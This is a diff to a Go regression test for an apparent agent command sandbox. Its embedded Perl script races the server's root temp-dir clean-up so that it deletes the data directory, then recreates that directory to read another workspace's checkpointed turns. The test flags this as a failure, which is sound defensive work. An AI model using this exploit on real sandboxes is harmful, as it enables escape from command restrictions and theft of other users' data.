@@ -1,6 +1,7 @@
 package tests
 
 import (
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
@@ -32,6 +33,13 @@ import (
 // directory included, as root in the host's mount namespace, where the
 // full_access command's masks do not exist.
 //
+// Then the read: the host's rmdir of the data directory takes the
+// full_access command's mask of it along (a mount on a removed directory is
+// detached in every namespace), so the same command makes the directory
+// again and reads what the server writes there next: its read-model
+// checkpoint, every workspace's turns (here another workspace's turn
+// started after the clean-up).
+//
 // Controls: the full_access command cannot see or remove the token itself
 // (masked: "MASKED"), its rename worked ("MOVED"), and the restricted
 // command's temp dir was removed (the cleanup ran its fallback walk).
@@ -51,7 +59,7 @@ func TestAttack148_TmpCleanupClimbsIntoDataDir(t *testing.T) {
 	}
 	// A descriptor limit of 1024 stands for "deeper than the server's
 	// limit" (review 26); the chain below is 1,500 deep.
-	s := startServer(t, &Server{Bin: nofileBin(t, 1024), Data: data, Env: []string{"TMPDIR=" + tmp}})
+	s := startServer(t, &Server{Bin: nofileBin(t, 1024), Data: data, Args: []string{"--checkpoint-interval", "1s"}, Env: []string{"TMPDIR=" + tmp}})
 	tokenPath := filepath.Join(data, "token")
 	if _, err := os.Stat(tokenPath); err != nil {
 		t.Fatalf("premise: no token in the data directory: %v", err)
@@ -64,17 +72,22 @@ func TestAttack148_TmpCleanupClimbsIntoDataDir(t *testing.T) {
 	// dir, sits at the bottom of its chain, and when the server's walk
 	// starts emptying it, moves the chain's top into base.
 	const mover = `
-my $B = shift; my $deadline = time + 45; $| = 1;
+my $B = shift; my $start = time; my $deadline = $start + 40; $| = 1;
+print "STARTED ", time, "\n";
 print -e "$B/data/token" ? "VISIBLE\n" : "MASKED\n";
 print unlink("$B/data/token") ? "REMOVED-ITSELF\n" : "CANNOT-REMOVE\n";
-my $x;
-while (!$x && time < $deadline) {
-  for my $c (glob "$B/tmp/turnstile-tmp-*") { $x = $c if -e "$c/ready" }
-  select(undef, undef, undef, 0.01) unless $x;
+my ($x, $bottom);
+# The restricted command's temp dir, once its chain is made (a file
+# "ready" at the bottom, where the server's first try never reaches).
+while (!$bottom && time < $deadline) {
+  for my $c (glob "$B/tmp/turnstile-tmp-*") {
+    next unless chdir "$c/d";
+    chdir "d" while -d "d";
+    if (-e "ready") { $x = $c; $bottom = 1; last }
+  }
+  select(undef, undef, undef, 0.02) unless $bottom;
 }
 die "no temp dir: " . join(" ", glob("$B/tmp/*"), glob("$B/*")) . "\n" unless $x;
-chdir "$x/d" or die "chdir: $!\n";
-chdir "d" while -d "d";
 sub count { opendir(my $dh, ".") or return -1; my @e = readdir $dh; scalar @e }
 my $full = count();
 print "BOTTOM $full\n";
@@ -87,7 +100,20 @@ while (time < $deadline) {
   select(undef, undef, undef, 0.002);
 }
 chdir "/";
-print "END ", count(), " ", (-e "$x" ? "x-left" : "x-gone"), "\n";
+print "END ", (-e "$x" ? "x-left" : "x-gone"), "\n";
+# Once the walk has removed the data directory on the host, this view's
+# mask of it is gone with it: make it again and wait for what the server
+# writes there next (its read-model checkpoint: every workspace's turns).
+my $end = $start + 55;
+READ: while (time < $end) {
+  if (!-d "$B/data") { print "RECREATED\n" if mkdir "$B/data" }
+  for my $c (glob "$B/data/*") {
+    open(my $fh, "<", $c) or next; local $/; my $s = <$fh>; close $fh;
+    if (defined $s && index($s, "victim-a148-marker") >= 0) { print "READ $c\n"; last READ }
+  }
+  select(undef, undef, undef, 0.05);
+}
+print "DONE\n";
 `
 	fa := execInBackground(s, "fa-a148", map[string]any{"tool_call_id": "f1", "timeout_ms": 120000,
 		"argv": []string{"perl", "-e", mover, base}, "cwd": wsF})
@@ -95,12 +121,24 @@ print "END ", count(), " ", (-e "$x" ? "x-left" : "x-gone"), "\n";
 	// The restricted command: a chain deeper than the descriptor limit in
 	// its own temp dir, many files at the bottom (what the walk empties
 	// while the other command moves the top), and "ready".
-	const chain = `cd "$TMPDIR" && perl -e 'for (1..1500) { mkdir "d" or die "mkdir: $!"; chdir "d" or die } for (1..30000) { open my $f, ">", "f$_" or die "$!"; close $f }' && : > "$TMPDIR/ready" && echo MADE`
+	const chain = `cd "$TMPDIR" && perl -e 'for (1..1500) { mkdir "d" or die "mkdir: $!"; chdir "d" or die } for (1..30000) { open my $f, ">", "f$_" or die "$!"; close $f } open my $r, ">", "ready" or die "$!"; close $r' && echo MADE`
+	t.Logf("restricted command starts at %d", time.Now().Unix())
 	d := s.execApproved("ae-a148", "r1", map[string]any{"cmd": chain, "cwd": wsR, "timeout_ms": 120000})
 	if d.Result == nil || !strings.Contains(d.Result.Stdout, "MADE") {
 		t.Fatalf("premise: the restricted command did not make its chain: %+v %+v", d, d.Result)
 	}
+	t.Logf("restricted command ended at %d", time.Now().Unix())
 	t.Logf("restricted command: exit %d stdout %q stderr %q", d.Result.ExitCode, d.Result.Stdout, d.Result.Stderr)
+	// Another workspace's turn, after the clean-up (and the directory made
+	// again, when the attack works): what the server's next checkpoint
+	// holds.
+	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
+		if !exists(tokenPath) && exists(data) {
+			break
+		}
+	}
+	s.startTurn("victim-a148-marker", "ws-other", "auto_accept_edits", workspace(t))
+	s.JSON("POST", "/v1/turns/victim-a148-marker/complete", nil, http.StatusOK, nil)
 	var f decisionAnswer
 	select {
 	case f = <-fa:
@@ -128,11 +166,19 @@ print "END ", count(), " ", (-e "$x" ? "x-left" : "x-gone"), "\n";
 	if len(left) != 0 {
 		t.Logf("the restricted command's temp dir is still there: %v", left)
 	}
+	for _, l := range strings.Split(s.Output(), "\n") {
+		if strings.Contains(l, "checkpoint") {
+			t.Logf("server: %s", l)
+		}
+	}
 	var gone []string
 	for _, p := range []string{tokenPath, filepath.Join(data, "events"), data} {
 		if !exists(p) {
 			gone = append(gone, p)
 		}
+	}
+	if strings.Contains(f.Result.Stdout, "READ ") {
+		t.Errorf("the full_access command then made the data directory again (its mask went with the directory the server removed) and read the server's next read-model checkpoint there, another workspace's turn included: %q", f.Result.Stdout)
 	}
 	if len(gone) > 0 {
 		t.Errorf("the server's clean-up of a restricted command's temp dir, its chain's top moved by a full_access command into the directory above the data directory, climbed \"..\" out of the temp dir and removed the data directory's contents as root (gone: %v): removeTreeAt (sandbox/removetree.go) walks up through \"..\" of a tree another process can move", gone)
